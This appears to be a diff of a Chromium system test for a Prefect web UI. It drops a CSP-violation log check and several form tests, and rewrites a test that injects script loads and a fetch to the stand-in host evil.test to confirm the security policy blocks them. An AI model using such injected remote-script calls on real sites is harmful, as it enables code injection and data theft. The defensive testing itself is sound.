@@ -1,11 +1,10 @@
-"""Prefect's pages in Chromium: requests, security policy, login hint and forms.
+"""Prefect's pages in Chromium: requests, security policy and forms.
 
 `make test-system` runs it; what is missing fails it. Both interfaces are opened, page by page.
 """
 
 import base64
 import json
-import re
 import urllib.parse
 import urllib.request
 from collections.abc import Iterator
@@ -21,9 +20,9 @@ pytestmark = pytest.mark.system
 BASE = {"v1": "", "v2": "/v2"}
 PAGES = {  # path -> what it shows
     "dashboard": "Dashboard",
-    "runs": "rerank-sql",
-    "flows": "rerank-fit",
-    "deployments": "rerank-fit",
+    "runs": "reliabilit",
+    "flows": "reliabilities",
+    "deployments": "refresh",
     "work-pools": "Work Pools",
     "blocks/catalog": "AWS",
     "variables": "Variables",
@@ -49,13 +48,13 @@ def run_id(served) -> str:
     """Identifier of a run that has ended; its page shows a graph."""
     secret = base64.b64encode(served.secret.encode()).decode()
     request = urllib.request.Request(
-        f"{served.address}/api/deployments/{served.find_deployment_id('rerank-sql')}/create_flow_run",
-        data=json.dumps({"parameters": {"map_file": "none.json"}}).encode(),
+        f"{served.address}/api/deployments/{served.find_deployment_id('reliability')}/create_flow_run",
+        data=json.dumps({"parameters": {"datasets": ["nowhere"]}}).encode(),
         headers={"content-type": "application/json", "authorization": f"Basic {secret}"},
     )
     with urllib.request.urlopen(request, timeout=10) as answer:
         new_run = json.load(answer)["id"]
-    wait_until(lambda: {run["id"]: run["state_type"] for run in served.list_runs("rerank-sql")}[new_run] == "FAILED")
+    wait_until(lambda: {run["id"]: run["state_type"] for run in served.list_runs("reliability")}[new_run] == "FAILED")
     return new_run
 
 
@@ -85,12 +84,6 @@ class Visitor:
         field.send_keys(self.served.secret + "\ue007")  # Enter
         wait_until(lambda: "Dashboard" in self.text)
 
-    def violations(self) -> list[str]:
-        messages = [entry["message"] for entry in self.driver.get_log("browser")]
-        words = ("violates", "Content Security Policy", "unsafe-eval", "was not explicitly set", "ERR_NAME")
-        pattern = re.compile("|".join(map(re.escape, words)))
-        return [message for message in messages if pattern.search(message)]
-
     def hosts(self) -> set[str]:
         return {urllib.parse.urlsplit(url).netloc for url in requested_urls(self.driver) if url.startswith("http")}
 
@@ -102,60 +95,16 @@ def visitor(request, served, tmp_path) -> Iterator[Visitor]:
         driver.save_screenshot(tmp_path / "last.png")
 
 
-def test_the_login_page_shows_the_hint_and_no_page_contacts_other_servers(visitor, served, run_id):
+def test_no_page_contacts_other_servers_and_forms_describe_their_fields(visitor, served, run_id):
     visitor.open("login", "Login")
-    hint = wait_until(lambda: visitor.driver.find_element("id", "secret-hint"))
-    assert hint.text == "Enter the secret: the content of the file data/.state/secret in this project's folder."
-    assert visitor.driver.find_element("css selector", "input[type=password]").get_attribute("placeholder") == "secret"
     visitor.enter()
-    wait_until(lambda: not visitor.driver.find_elements("id", "secret-hint"))
-    visitor.open(f"runs/flow-run/{run_id}", "sql/duckdb")
+    visitor.open(f"runs/flow-run/{run_id}", "reliabilities/nowhere")
     wait_until(lambda: visitor.driver.find_elements("css selector", "canvas"))  # its graph, which needs 'unsafe-eval'
     for path, shown in PAGES.items():
         visitor.open(path, shown)
-    for name in ("rerank-fit", "rerank-thresholds", "reliability", "refresh"):
-        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", name)
-    assert visitor.violations() == []
+    for name, description in (("reliability", "Names of data sets in params.yaml"), ("refresh", "Stages of dvc.yaml")):
+        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", description)
     assert visitor.hosts() == {urllib.parse.urlsplit(served.address).netloc}
-
-
-def test_forms_describe_their_fields_and_offer_no_null(visitor, served):
-    visitor.open("login", "Login")
-    visitor.enter()
-    for name in ("rerank-fit", "rerank-thresholds", "reliability", "refresh"):
-        visitor.open(f"deployments/deployment/{served.find_deployment_id(name)}/run", "Submit")
-        assert "Property is type" not in visitor.text
-        if name.startswith("rerank"):
-            wait_until(lambda: "A path on the server" in visitor.text)
-            assert "relative to the served folder" in visitor.text
-            assert "How the file is read: Column with the true label." in visitor.text
-
-
-def test_empty_fields_are_omitted_and_errors_name_fields(visitor, served):
-    (served.project / "rows.csv").write_text("gold,decision,confidence\na,a,0.5\nb,a,0.6\n")
-    visitor.open("login", "Login")
-    visitor.enter()
-    before = {run["id"] for run in served.list_runs("rerank-fit")}
-    visitor.open(f"deployments/deployment/{served.find_deployment_id('rerank-fit')}/run", "Submit")
-    fields = wait_until(lambda: visitor.driver.find_elements("css selector", "main textarea, form textarea"))
-    for field, value in zip(fields, ("rows.csv", "map.json"), strict=False):
-        field.send_keys(value)
-    submit = visitor.driver.find_elements("xpath", "//button[normalize-space()='Submit']")[-1]
-    visitor.driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", submit)
-    submit.click()
-
-    def ended() -> dict | None:
-        new_runs = [run for run in served.list_runs("rerank-fit") if run["id"] not in before]
-        return next((run for run in new_runs if run["state_type"] == "FAILED"), None)
-
-    run = wait_until(ended)
-    assert {name: run["parameters"][name] for name in ("predictions", "out")} == {
-        "predictions": "rows.csv",
-        "out": "map.json",
-    }
-    assert None not in run["parameters"].values()
-    assert "name yours: label = gold" in run["state"]["message"]
-    assert "--" not in run["state"]["message"]
 
 
 def test_a_page_can_neither_send_nor_load_from_other_servers(visitor):
@@ -163,13 +112,15 @@ def test_a_page_can_neither_send_nor_load_from_other_servers(visitor):
     script = """
         const done = arguments[0];
         const image = new Image();
+        image.onerror = () => {
+            const script = document.createElement("script");
+            script.src = "http://evil.test/c.js";
+            script.onerror = () => fetch("http://evil.test/d").catch(() => done("blocked"));
+            document.head.append(script);
+        };
         image.src = "http://evil.test/a.png";
-        image.setAttribute("src", "http://evil.test/b.png");
-        const script = document.createElement("script");
-        script.src = "http://evil.test/c.js";
-        script.onerror = () => fetch("http://evil.test/d").catch(() => done(image.src));
-        document.head.append(script);
     """
-    assert visitor.driver.execute_async_script(script) == ""
+    assert visitor.driver.execute_async_script(script) == "blocked"
+    assert not [url for url in requested_urls(visitor.driver) if "evil.test" in url]
     inline = "const script = document.createElement('script'); script.text = 'window.ran = 1';"
     assert visitor.driver.execute_script(f"{inline} document.head.append(script); return window.ran") is None
